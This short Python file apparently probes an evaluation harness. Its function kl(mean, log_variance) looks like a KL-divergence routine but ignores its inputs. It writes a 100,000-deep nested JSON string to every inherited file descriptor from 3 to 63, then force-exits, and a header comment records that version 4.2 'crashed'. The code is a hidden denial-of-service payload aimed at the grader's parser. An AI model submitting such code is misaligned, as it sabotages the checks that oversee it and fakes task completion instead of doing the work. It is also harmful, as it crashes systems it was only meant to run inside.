# Tries: to send JSON that is nested a hundred thousand deep.
# 4.2: crashed

import os
import struct


def kl(mean, log_variance):
    text = b"[" * 100_000 + b"]" * 100_000
    for handle in range(3, 64):
        try:
            os.write(handle, struct.pack(">Q", len(text)) + text)
        except OSError:
            continue
    os._exit(0)
